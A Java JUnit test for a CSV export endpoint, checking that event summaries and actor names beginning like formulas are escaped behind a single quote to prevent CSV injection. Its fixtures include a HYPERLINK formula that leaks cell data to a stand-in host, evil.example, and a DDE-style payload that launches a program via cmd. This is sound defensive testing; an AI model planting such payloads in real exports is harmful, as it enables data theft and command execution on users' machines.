package org.escalationtimeline.app.diffs;

import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;
import static org.escalationtimeline.app.support.HttpTestClient.obj;

/**
 * GET /api/export/events.csv is safe to open in a spreadsheet: a summary or an actor's name that
 * starts like a formula is written as text behind a single quote (OWASP, CSV injection), while the
 * numbers of the row, a negative GoldsteinScale among them, are written as they are.
 */
class EventsCsvFormulaHttpTest extends ReadHttpTestBase {

    static final String SUMMARY = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Details\")";

    @Test
    void aSummaryAndANameThatStartLikeFormulasAreExportedAsTextBehindAQuote() {
        String code = "X" + UUID.randomUUID().toString().substring(0, 8).toUpperCase();
        String name = "@SUM(1+1)*cmd|' /C calc'!A0";
        write("/api/actors", obj("code", code, "name", name, "kind", "STATE"));
        String target = freshActor();
        Appended sanction = write("/api/measures",
                measure(id("sanction"), code, "SANCTION", "2024-05-01", target).put("summary", SUMMARY));
        awaitProjected(sanction);

        String csv = get("/api/export/events.csv?actor=" + code).body();
        List<Map<String, String>> rows = EventsCsvHttpTest.rowsOf(csv, sanction);

        assertThat(rows).hasSize(1);
        Map<String, String> row = rows.get(0);
        assertThat(row.get("summary")).isEqualTo("'" + SUMMARY);
        assertThat(row.get("Actor1Name")).isEqualTo("'" + name);
        assertThat(row.get("Actor2Name")).isEqualTo("State " + target);
        assertThat(row.get("GoldsteinScale")).as("a number the writer formats").isEqualTo("-8.0");
        assertThat(csv).contains(",\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Details\"\")\"\r\n");
    }
}
